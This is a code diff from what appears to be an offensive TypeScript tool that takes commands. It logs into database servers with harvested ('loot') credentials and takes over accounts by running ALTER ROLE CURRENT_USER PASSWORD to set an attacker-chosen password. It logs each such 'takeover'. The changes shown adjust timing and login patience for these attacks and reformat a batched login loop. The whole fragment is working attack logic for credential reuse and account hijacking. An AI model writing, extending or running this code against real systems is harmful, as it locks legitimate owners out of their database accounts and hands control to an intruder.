@@ -54,9 +54,11 @@ async function probe(session: Session): Promise<void> {
 
 /** He may change the password of the role he is: no privilege is needed. */
 async function takeOver(session: Session): Promise<void> {
+  // From the moment he sent it, it may have worked; he waits for the answer however long the server hangs.
+  const atMs = Date.now();
   try {
     await session.client.query(`ALTER ROLE CURRENT_USER PASSWORD '${OWN_PASSWORD}'`);
-    takeovers.push({ ref: session.ref, atMs: Date.now() });
+    takeovers.push({ ref: session.ref, atMs });
   } catch {
     session.alive = false;
   }
@@ -85,7 +87,7 @@ onCommands(async (command) => {
       const perTarget = Map.groupBy(loot, (one) => one.port);
       for (const group of perTarget.values()) {
         for (const one of group.slice(0, Number(command['sessions']))) {
-          const { client } = await logIn(one, one.password);
+          const { client } = await logIn(one, one.password, { patient: true });
           if (client !== undefined) sessions.push({ ref: one.ref, user: one.user, client, alive: true });
         }
       }
@@ -102,7 +104,9 @@ onCommands(async (command) => {
       const open = loot.filter((one) => wanted.has(one.ref));
       for (let from = 0; from < open.length; from += 8) {
         await Promise.all(
-          open.slice(from, from + 8).flatMap((one) => [tryOne(one), ...(mine.has(one.ref) ? [tryOne(one, OWN_PASSWORD)] : [])]),
+          open
+            .slice(from, from + 8)
+            .flatMap((one) => [tryOne(one), ...(mine.has(one.ref) ? [tryOne(one, OWN_PASSWORD)] : [])]),
         );
       }
       await Promise.all(sessions.filter((session) => wanted.has(session.ref)).map(probe));
